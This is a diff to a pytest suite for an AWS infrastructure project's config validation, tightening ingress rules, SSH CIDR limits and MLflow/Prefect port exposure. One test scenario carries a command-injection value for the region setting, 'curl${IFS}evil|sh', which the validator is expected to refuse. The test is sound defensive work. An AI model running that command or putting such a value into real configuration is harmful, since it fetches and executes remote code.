@@ -73,6 +73,21 @@ SCENARIOS: dict[str, dict[str, Any]] = {
     "bad_cidr": {**BASE, "healthpredict:allowedCidrs": ["203.0.113.300/32"]},
     "typo": {**BASE, "healthpredict:allowUnsafeIngres": True},
     "no_allowed": {k: v for k, v in BASE.items() if k != "healthpredict:allowedCidrs"},
+    "bad_region": {**BASE, "aws:region": "eu-west-1;curl${IFS}evil|sh"},
+    "relaxed_prefix_wide_ssh": {
+        **BASE,
+        "healthpredict:minIngressPrefix": 8,
+        "healthpredict:allowedCidrs": ["198.51.0.0/16"],
+        "healthpredict:sshCidrs": ["198.51.0.0/16"],
+    },
+    "relaxed_prefix": {
+        **BASE,
+        "healthpredict:minIngressPrefix": 8,
+        "healthpredict:allowedCidrs": ["198.51.0.0/16"],
+        "healthpredict:sshCidrs": ["198.51.100.0/28"],
+    },
+    "mlflow_port": {**BASE, "healthpredict:mlflowPort": 5000},
+    "api_ports_cover_mlflow": {**BASE, "healthpredict:apiPorts": "4000-6000"},
 }
 
 
@@ -116,9 +131,10 @@ def test_outputs_are_complete_and_point_at_the_instance(runs: dict[str, dict[str
     assert out["secrets_path"] == "/healthpredict/dev"
     assert out["bootstrap_status_parameter"] == "/healthpredict/dev/bootstrap-status"
     assert out["ecr_repository_url"] == "111122223333.dkr.ecr.eu-west-1.amazonaws.com/healthpredict-service-d4e5"
-    assert out["mlflow_tracking_uri"] == f"http://{dns}:5000"
-    assert out["prefect_ui_url"] == f"http://{dns}:4200"
-    assert out["prefect_api_url"] == f"http://{dns}:4200/api"
+    # MLflow and Prefect through a tunnel to the host (docs/INFRA.md), at the same ports on the user's machine.
+    assert out["mlflow_tracking_uri"] == "http://localhost:5000"
+    assert out["prefect_ui_url"] == "http://localhost:4200"
+    assert out["prefect_api_url"] == "http://localhost:4200/api"
     assert out["api_url"] == f"http://{dns}:8000"
     assert {"vpc_id", "security_group_id"} <= set(out)
 
@@ -169,10 +185,11 @@ def test_network_has_public_subnets_in_distinct_azs_routed_to_igw(runs: dict[str
     assert sorted(a["subnetId"] for a in assocs) == ["healthpredict-public-0-id", "healthpredict-public-1-id"]
 
 
-def test_ingress_is_only_service_ports_from_allowed_cidrs(runs: dict[str, dict[str, Any]]) -> None:
+def test_ingress_is_only_the_api_from_allowed_cidrs(runs: dict[str, dict[str, Any]]) -> None:
+    """MLflow (5000) and Prefect (4200) speak plain HTTP: the security group never publishes them."""
     result = ok(runs, "default")
     rules = ingress(result)
-    assert sorted((r["fromPort"], r["toPort"]) for r in rules) == [(4200, 4200), (5000, 5000), (8000, 8000)]
+    assert sorted((r["fromPort"], r["toPort"]) for r in rules) == [(8000, 8000)]
     assert all(r["cidrIpv4"] == ALLOWED and r["ipProtocol"] == "tcp" for r in rules)
     assert not any(r.get("cidrIpv6") for r in rules)
     egress = one(result, "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule")
@@ -408,7 +425,26 @@ def refused(runs: dict[str, dict[str, Any]], name: str) -> str:
 def test_ssh_from_the_internet_is_refused_even_with_override(runs: dict[str, dict[str, Any]], scenario: str) -> None:
     error = refused(runs, scenario)
     assert "healthpredict:sshCidrs" in error and "0.0.0.0/0" in error
-    assert "even with allowUnsafeIngress=true" in error
+    assert "whatever minIngressPrefix and allowUnsafeIngress say" in error
+
+
+def test_relaxed_minimum_prefix_widens_the_api_but_not_ssh(runs: dict[str, dict[str, Any]]) -> None:
+    error = refused(runs, "relaxed_prefix_wide_ssh")
+    assert "healthpredict:sshCidrs contains 198.51.0.0/16, wider than /24" in error
+    rules = ingress(ok(runs, "relaxed_prefix"))
+    assert sorted((r["fromPort"], r["cidrIpv4"]) for r in rules) == [(22, "198.51.100.0/28"), (8000, "198.51.0.0/16")]
+
+
+def test_a_malformed_region_is_refused_naming_the_key(runs: dict[str, dict[str, Any]]) -> None:
+    error = refused(runs, "bad_region")
+    assert "aws:region: 'eu-west-1;curl${IFS}evil|sh' is not an AWS region name" in error
+
+
+def test_mlflow_and_prefect_ports_cannot_be_published(runs: dict[str, dict[str, Any]]) -> None:
+    error = refused(runs, "mlflow_port")
+    assert "healthpredict:mlflowPort is not a setting" in error and "tunnel" in error
+    error = refused(runs, "api_ports_cover_mlflow")
+    assert "healthpredict:apiPorts: 4000-6000 includes" in error
 
 
 @pytest.mark.parametrize(("scenario", "cidr"), [("api_world", "0.0.0.0/0"), ("api_world_v6", "::/0")])
@@ -423,7 +459,7 @@ def test_world_open_services_need_the_explicit_override(
 def test_override_opens_services_but_never_ssh(runs: dict[str, dict[str, Any]]) -> None:
     result = ok(runs, "api_world_override")
     rules = ingress(result)
-    assert sorted(r["fromPort"] for r in rules) == [4200, 5000, 8000]
+    assert sorted(r["fromPort"] for r in rules) == [8000]
     assert all(r["cidrIpv4"] == "0.0.0.0/0" for r in rules)
     assert not any(r["fromPort"] <= 22 <= r["toPort"] for r in rules)
 
